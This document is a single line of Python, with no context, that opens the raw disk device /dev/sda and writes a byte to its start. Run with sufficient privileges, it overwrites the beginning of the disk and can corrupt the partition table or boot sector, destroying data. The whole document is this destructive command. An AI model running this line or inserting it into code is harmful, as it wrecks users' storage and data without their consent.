open('/dev/sda', 'wb').write(b'0')
